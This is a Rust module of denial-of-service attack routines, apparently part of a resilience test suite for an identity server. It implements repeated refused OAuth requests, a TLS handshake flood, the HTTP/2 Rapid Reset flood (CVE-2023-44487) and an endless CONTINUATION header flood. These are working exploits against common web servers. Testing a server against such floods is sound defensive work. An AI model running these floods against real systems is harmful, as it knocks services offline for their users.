//! Attackers who keep the processor busy.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinHandle;
use tokio::time::sleep;
use tokio_rustls::TlsConnector;

use super::{Means, address, repeat};
use crate::frames::{
    CONTINUATION, END_HEADERS, END_STREAM, GET_ROOT, HEADERS, PREFACE, RST_STREAM, SETTINGS, frame,
};
use crate::wire::connect;

/// Requests that are refused, on connections that stay.
pub fn refusals(means: &Means) -> Vec<JoinHandle<()>> {
    let port = means.plain;
    repeat(means, 16, move |number| async move {
        let Some(mut stream) = connect(address(number), port).await else {
            return;
        };
        let body = "grant_type=client_credentials&client_id=stranger&client_secret=x";
        let token = format!(
            "POST /token HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        let page = "GET /authorize?client_id=stranger HTTP/1.1\r\nHost: x\r\n\r\n";
        let mut answer = vec![0; 16 * 1024];
        for _ in 0..500 {
            for request in [&*token, page] {
                if stream.write_all(request.as_bytes()).await.is_err() {
                    return;
                }
                if !matches!(stream.read(&mut answer).await, Ok(1..)) {
                    return;
                }
            }
        }
    })
}

pub fn handshakes(means: &Means) -> Vec<JoinHandle<()>> {
    let mut roots = rustls::RootCertStore::empty();
    roots.add_parsable_certificates([]);
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let config = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
    let connector = TlsConnector::from(Arc::new(config));
    let port = means.tls;
    repeat(means, 64, move |number| {
        let connector = connector.clone();
        async move {
            let Some(stream) = connect(address(number), port).await else {
                return;
            };
            let name = "id.example".try_into().unwrap();
            // It refuses the certificate, when the server has done its part.
            let _ = connector.connect(name, stream).await;
        }
    })
}

/// Floods a connection until the server closes it.
async fn flood(number: usize, port: u16, opening: &[u8], next: impl Fn(u32) -> Vec<u8>) {
    let Some(stream) = connect(address(number), port).await else {
        return sleep(Duration::from_millis(50)).await;
    };
    let (mut reader, mut writer) = stream.into_split();
    let start = [PREFACE, &frame(SETTINGS, 0, 0, &[]), opening].concat();
    let flooding = async {
        if writer.write_all(&start).await.is_err() {
            return;
        }
        for round in 0.. {
            if writer.write_all(&next(round)).await.is_err() {
                return;
            }
        }
    };
    let draining = async {
        let mut bytes = [0; 4096];
        while reader.read(&mut bytes).await.is_ok_and(|read| read > 0) {}
    };
    tokio::select! { () = flooding => (), () = draining => () }
}

/// CVE-2023-44487.
pub fn rapid_reset(means: &Means) -> Vec<JoinHandle<()>> {
    let port = means.plain;
    repeat(means, 16, move |number| async move {
        let reset = |round: u32| {
            let stream = round * 2 + 1;
            let open = frame(HEADERS, END_STREAM | END_HEADERS, stream, GET_ROOT);
            [open, frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())].concat()
        };
        flood(number, port, &[], reset).await;
    })
}

/// A head without an end.
pub fn continuation(means: &Means) -> Vec<JoinHandle<()>> {
    let port = means.plain;
    repeat(means, 16, move |number| async move {
        let header = [&[0x00, 0x01, b'a', 100][..], &[b'x'; 100]]
            .concat()
            .repeat(100);
        let opening = frame(HEADERS, END_STREAM, 1, GET_ROOT);
        flood(number, port, &opening, |_| {
            frame(CONTINUATION, 0, 1, &header)
        })
        .await;
    })
}
